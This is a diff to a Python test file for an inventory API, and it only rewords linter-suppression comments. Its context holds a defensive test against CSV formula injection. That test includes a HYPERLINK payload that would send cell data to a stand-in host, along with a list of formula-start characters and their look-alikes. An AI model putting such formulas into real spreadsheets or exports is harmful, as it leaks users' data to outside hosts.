@@ -42,7 +42,7 @@ COUNTED = ("items", "price_rows", "changes", "books", "imports", "api_keys", "st
 
 
 async def counts(owner: asyncpg.Connection) -> dict[str, int]:
-    return {table: await owner.fetchval(f"SELECT count(*) FROM {table}") for table in COUNTED}  # noqa: S608
+    return {table: await owner.fetchval(f"SELECT count(*) FROM {table}") for table in COUNTED}  # noqa: S608 - names of ours
 
 
 @pytest.mark.parametrize("text", SQL)
@@ -166,7 +166,7 @@ async def _imported(client: Client, column: str, file: str) -> None:
     assert (await client.get("/v1/items/sku:A-1")).json()["name"] == "A-1"
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "＝", " ="])  # noqa: RUF001
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "'=", "＝", " ="])  # noqa: RUF001 - the look-alikes are meant
 async def test_no_cell_of_an_export_is_a_formula(client: Client, start: str) -> None:
     text = f'{start}HYPERLINK("http://x"&A1;"y")'
     one_line = text.strip()
@@ -175,7 +175,7 @@ async def test_no_cell_of_an_export_is_a_formula(client: Client, start: str) -> 
     assert made.status_code == 201, made.text
     file = (await client.get("/v1/export")).content.decode()
     _, row = csv.reader(io.StringIO(file, newline=""))
-    assert not [cell for cell in row if cell.lstrip()[:1] in set("=+-@＝＋－＠") or cell[:1] in set("\t\r\n")]  # noqa: RUF001
+    assert not [cell for cell in row if cell.lstrip()[:1] in set("=+-@＝＋－＠") or cell[:1] in set("\t\r\n")]  # noqa: RUF001 - the look-alikes are meant
     # In another book the same file says the same, and so do the errors of one that is refused.
     await client.post("/v1/books", json={"key": "second", "name": "Second", "currency": "EUR"})
     headers = {"Content-Type": "text/csv"}
